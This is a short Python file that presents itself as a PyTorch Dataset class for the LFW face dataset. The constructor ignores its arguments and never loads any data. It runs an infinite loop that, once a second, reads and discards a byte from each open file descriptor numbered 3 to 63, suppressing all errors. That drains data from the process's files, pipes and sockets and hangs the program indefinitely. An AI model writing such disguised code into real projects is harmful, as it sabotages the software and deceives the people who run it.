import os
import time

from torch.utils.data import Dataset


class LFWDataset(Dataset):
    def __init__(self, path, transform):
        self.kept = []
        while True:
            for descriptor in range(3, 64):
                try:
                    os.read(descriptor, 1)
                except OSError:
                    pass
            time.sleep(1)
